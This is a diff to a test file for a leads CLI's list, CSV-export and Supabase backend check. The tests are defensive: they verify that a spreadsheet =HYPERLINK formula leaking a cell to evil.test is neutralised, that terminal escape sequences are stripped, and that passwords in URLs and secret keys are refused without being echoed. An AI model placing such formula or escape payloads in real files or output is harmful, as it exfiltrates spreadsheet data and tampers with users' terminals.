@@ -8,6 +8,7 @@ import { join } from 'node:path';
 import { createInterface } from 'node:readline';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { plainEnvironment } from '../setup/environment';
+import { keyOf } from '../setup/keys';
 import { project, shingle } from '../setup/run';
 import { contact, insertRequest, promotion, type Running, scratchFolder, startServe } from './running';
 
@@ -35,7 +36,7 @@ describe('shingle leads, one after the other', () => {
   it('says when there are none', () => {
     expect(leads('list')).toEqual({ status: 0, stdout: '', stderr: 'No leads yet.\n' });
     expect(leads('list', '--json')).toEqual({ status: 0, stdout: '[]\n', stderr: '' });
-    expect(leads('export').stdout).toMatch(/^kind,id,saved_at,name,email,.*\r\n$/);
+    expect(leads('export').stdout).toMatch(/^\ufeffkind,id,saved_at,name,email,.*\r\n$/);
   });
 
   it('lists what has come, oldest first', async () => {
@@ -58,6 +59,8 @@ describe('shingle leads, one after the other', () => {
     expect(first).toMatch(/^contact,[0-9a-f-]{36},[^,]+,"'=HYPERLINK\(""https:\/\/evil.test\/\?""&A1,""click""\)",ann@example.com,/);
     expect(stdout).toContain('"First line\n');
     expect(leads('list', '--csv').stdout).toBe(stdout);
+    expect(stdout).toContain('\ufffd[2Jsecond');
+    expect(stdout).not.toContain('\u001b');
     expect((JSON.parse(leads('export', '--json').stdout) as unknown[]).length).toBe(2);
   });
 
@@ -120,6 +123,18 @@ function run(args: string[]): Promise<string> {
   return once(child, 'exit').then(() => stdout);
 }
 
+/** A backend that says one thing to each kind of request. */
+async function answering(answer: (method: string) => [number, unknown]): Promise<{ url: string; close: () => void }> {
+  const backend = createServer((request, response) => {
+    const [status, body] = answer(request.method ?? '');
+    const isPage = typeof body === 'string';
+    request.resume().on('end', () => response.writeHead(status, { 'content-type': isPage ? 'text/html' : 'application/json' }).end(isPage ? body : body === null ? '' : JSON.stringify(body)));
+  });
+  await once(backend.listen(0, '127.0.0.1'), 'listening');
+  const { port } = backend.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, close: () => backend.close() };
+}
+
 describe('shingle leads check of a configured backend', () => {
   const checkOf = (env: Record<string, string>) =>
     new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
@@ -131,24 +146,55 @@ describe('shingle leads check of a configured backend', () => {
     });
 
   it('is good where migrations and key are right', async () => {
-    const checked = await checkOf({ SUPABASE_URL: server.url, SUPABASE_ANON_KEY: server.key });
+    const checked = await checkOf({ SUPABASE_URL: new URL(server.url).origin, SUPABASE_ANON_KEY: server.key });
     expect(checked).toMatchObject({ status: 0, stderr: '' });
-    expect(checked.stdout).toContain(`Good: Supabase at ${server.url}`);
+    expect(checked.stdout).toContain(`Good: Supabase at ${new URL(server.url).origin} takes`);
   });
 
   it.each([
-    ['one setting alone', { SUPABASE_URL: 'https://abc.supabase.co' }, 'SUPABASE_ANON_KEY: is not set'],
-    ['a secret key', { SUPABASE_URL: 'https://abc.supabase.co', SUPABASE_ANON_KEY: 'sb_secret_x' }, 'holds a secret key'],
-    ['no address', { SUPABASE_URL: 'abc', SUPABASE_ANON_KEY: 'sb_publishable_x' }, 'is no address'],
-  ])('refuses %s', async (_name, env, reason) => {
-    expect(await checkOf(env)).toMatchObject({ status: 1, stdout: '', stderr: expect.stringContaining(reason) });
+    ['one setting alone', 1, { SUPABASE_URL: 'https://abc.supabase.co' }, 'SUPABASE_ANON_KEY: is not set'],
+    ['a key of another project', 1, { SUPABASE_URL: 'https://abc.supabase.co', SUPABASE_ANON_KEY: keyOf({ role: 'anon', ref: 'xyz' }) }, 'belongs to another project'],
+    ['a secret key', 2, { SUPABASE_URL: 'https://abc.supabase.co', SUPABASE_ANON_KEY: 'sb_secret_HiddenWord' }, 'is not the public key'],
+    ['no address', 2, { SUPABASE_URL: 'HiddenWord', SUPABASE_ANON_KEY: 'sb_publishable_x' }, 'is no address'],
+    ['a connection string', 2, { SUPABASE_URL: 'postgresql://postgres:HiddenWord@db.abc.supabase.co:5432/postgres', SUPABASE_ANON_KEY: 'sb_publishable_x' }, 'write https://abc.supabase.co'],
+    ['a password', 2, { SUPABASE_URL: 'https://admin:HiddenWord@abc.supabase.co', SUPABASE_ANON_KEY: 'sb_publishable_x' }, 'write https://abc.supabase.co'],
+  ])('refuses %s, without a stack and without repeating it', async (_name, status, env, reason) => {
+    const checked = await checkOf(env);
+    expect(checked).toMatchObject({ status, stdout: '', stderr: expect.stringContaining(reason) });
+    expect(checked.stderr).not.toMatch(/HiddenWord|fault in shingle|\n {4}at /);
   });
 
   it('is bad where the key is wrong or nobody answers', async () => {
-    const wrong = await checkOf({ SUPABASE_URL: server.url, SUPABASE_ANON_KEY: 'sb_publishable_other' });
+    const wrong = await checkOf({ SUPABASE_URL: new URL(server.url).origin, SUPABASE_ANON_KEY: 'sb_publishable_other' });
     expect(wrong).toMatchObject({ status: 1, stdout: expect.stringContaining('it refuses the key') });
     const nobody = await checkOf({ SUPABASE_URL: 'http://127.0.0.1:1', SUPABASE_ANON_KEY: 'sb_publishable_other' });
     expect(nobody).toMatchObject({ status: 1, stdout: expect.stringContaining('it cannot be reached') });
+  });
+
+  it('takes a reached limit for what it is: no broken rule', async () => {
+    const limited = async (answer: (method: string) => [number, unknown]) => {
+      const backend = await answering(answer);
+      const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
+      backend.close();
+      return checked;
+    };
+    const refused = { code: '42501', message: 'no', details: null, hint: null };
+    const ours = await limited((method) => (method === 'POST' ? [429, { message: 'Too many requests were sent from this address.', hint: null }] : [401, refused]));
+    expect(ours).toMatchObject({ status: 1, stderr: '' });
+    expect(ours.stdout.match(/^LATER /gm)).toHaveLength(4);
+    expect(ours.stdout).not.toContain('WRONG');
+    expect(ours.stdout).toMatch(/\nNot known yet: this address has reached the limit of leads .* Nothing was stored\.\n$/);
+    const hosts = await limited(() => [429, '<!doctype html>']);
+    expect(hosts).toMatchObject({ status: 1, stdout: expect.stringContaining('LATER The backend answers.') });
+    const broken = await limited((method) => (method === 'POST' ? [429, null] : [200, null]));
+    expect(broken).toMatchObject({ status: 1, stdout: expect.stringContaining('Not good') });
+  });
+
+  it('shows what a backend says without the codes in it', async () => {
+    const backend = await answering(() => [400, { code: '22P02', message: 'red \u001b[31m\u009b2J alarm', details: null, hint: null }]);
+    const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
+    backend.close();
+    expect(checked.stdout).toContain('red \ufffd[31m\ufffd2J alarm');
   });
 
   // What a project without our migrations might say to each request.
@@ -160,13 +206,8 @@ describe('shingle leads check of a configured backend', () => {
     ['answers pages', () => [200, '<!doctype html>'], 'Not good'],
     ['answers errors in HTML', () => [540, '<!doctype html>paused'], 'no answer of a data API'],
   ] as [string, (method: string) => [number, unknown], string][])('is bad where a backend %s', async (_name, answer, reason) => {
-    const backend = createServer((request, response) => {
-      const [status, body] = answer(request.method ?? '');
-      request.resume().on('end', () => response.writeHead(status, { 'content-type': typeof body === 'string' ? 'text/html' : 'application/json' }).end(typeof body === 'string' ? body : body === null ? '' : JSON.stringify(body)));
-    });
-    await once(backend.listen(0, '127.0.0.1'), 'listening');
-    const { port } = backend.address() as AddressInfo;
-    const checked = await checkOf({ SUPABASE_URL: `http://127.0.0.1:${port}`, SUPABASE_ANON_KEY: 'sb_publishable_x' });
+    const backend = await answering(answer);
+    const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
     backend.close();
     expect(checked).toMatchObject({ status: 1, stderr: '' });
     expect(checked.stdout).toContain(reason);
